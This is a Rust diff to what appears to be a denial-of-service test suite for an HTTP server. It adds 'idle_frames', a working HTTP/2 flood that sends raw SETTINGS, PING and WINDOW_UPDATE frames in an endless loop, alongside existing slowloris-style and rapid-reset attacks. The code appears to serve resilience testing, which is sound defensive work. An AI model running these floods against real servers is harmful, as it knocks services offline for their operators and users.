@@ -18,12 +18,13 @@ const JSON: &str = "application/json";
 const LARGEST: usize = 3 << 20;
 
 /// All attacks, by name.
-pub(super) const ALL: [(&str, Attack); 14] = [
+pub(super) const ALL: [(&str, Attack); 15] = [
     ("nobody", |_| pending().boxed_local()),
     ("headers, byte by byte", |target| many(300, target, slow_headers)),
     ("bodies, byte by byte", |target| many(300, target, slow_body)),
     ("HTTP/2 requests without a body", |target| many(8, target, streams_without_body)),
     ("HTTP/2 streams, opened and reset", |target| many(4, target, rapid_reset)),
+    ("HTTP/2 pings, windows and settings", |target| many(8, target, idle_frames)),
     ("4,000 connections without TLS", |target| idle_tcp(target).boxed_local()),
     ("connections with TLS and nothing else", |target| many(1_500, target, idle_tls)),
     ("connections to the other ports", |target| many(1_500, target, idle_elsewhere)),
@@ -97,6 +98,26 @@ async fn rapid_reset(target: &Target) -> anyhow::Result<()> {
             body.send_reset(h2::Reason::CANCEL);
         }
         tokio::task::yield_now().await;
+    }
+}
+
+async fn idle_frames(target: &Target) -> anyhow::Result<()> {
+    const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+    const SETTINGS: [u8; 9] = [0, 0, 0, 4, 0, 0, 0, 0, 0];
+    const PING: [u8; 17] = [0, 0, 8, 6, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8];
+    const WINDOW: [u8; 13] = [0, 0, 4, 8, 0, 0, 0, 0, 0, 0, 0, 0, 1];
+    let (mut answers, mut stream) = tokio::io::split(target.attacker.connect_tls_h2().await?);
+    stream.write_all(PREFACE).await?;
+    let flood = [&SETTINGS[..], &PING, &WINDOW].concat().repeat(100);
+    let flooding = async {
+        loop {
+            stream.write_all(&flood).await?;
+            stream.flush().await?;
+        }
+    };
+    tokio::select! {
+        ended = flooding => ended,
+        ended = closed(&mut answers) => ended,
     }
 }
 
